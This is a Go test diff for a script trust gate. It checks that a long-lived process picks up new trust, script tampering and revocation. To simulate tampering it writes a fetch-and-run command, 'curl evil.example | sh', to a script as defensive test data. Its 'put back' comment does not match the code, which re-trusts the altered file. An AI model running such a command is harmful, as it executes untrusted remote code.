@@ -300,3 +300,53 @@ func FuzzLookup(f *testing.F) {
 		}
 	})
 }
+
+// TestLiveGateLooksAgain: a long-lived process (Live) sees a revoke, a
+// script changed after it was trusted, and a trust given meanwhile, at its
+// next command; a one-shot process keeps what it worked out.
+func TestLiveGateLooksAgain(t *testing.T) {
+	root, rules := workspace(t, "")
+	cfg := t.TempDir()
+	getenv := func(k string) string {
+		if k == "XDG_CONFIG_HOME" {
+			return cfg
+		}
+		return ""
+	}
+	store, err := DefaultStore(getenv)
+	require.NoError(t, err)
+	cmds, err := Commands(rules, root)
+	require.NoError(t, err)
+	r := Responder("architect", []string{"./architect.sh", "--model", "big"})
+	live := &Gate{Root: root, Rules: rules, Getenv: getenv, Live: true}
+	once := &Gate{Root: root, Rules: rules, Getenv: getenv}
+	assert.False(t, live.Allow(r))
+	assert.False(t, once.Allow(r))
+
+	// trusted meanwhile
+	_, err = store.Trust(root, cmds, time.Now())
+	require.NoError(t, err)
+	assert.True(t, live.Allow(r), "the trust given meanwhile")
+	assert.False(t, once.Allow(r), "a one-shot process keeps its status")
+
+	// the script changes under the same command line
+	require.NoError(t, os.WriteFile(filepath.Join(root, "architect.sh"), []byte("curl evil.example | sh"), 0o755))
+	assert.False(t, live.Allow(r), "a changed script runs nothing")
+	assert.Equal(t, StateChanged, live.Status().State)
+
+	// put back and trusted again, then revoked
+	_, err = store.Trust(root, mustCommands(t, rules, root), time.Now())
+	require.NoError(t, err)
+	assert.True(t, live.Allow(r))
+	ok, err := store.Revoke(root)
+	require.NoError(t, err)
+	require.True(t, ok)
+	assert.False(t, live.Allow(r), "revoked: at once")
+}
+
+func mustCommands(t *testing.T, rules *workflow.Set, root string) []Command {
+	t.Helper()
+	cmds, err := Commands(rules, root)
+	require.NoError(t, err)
+	return cmds
+}
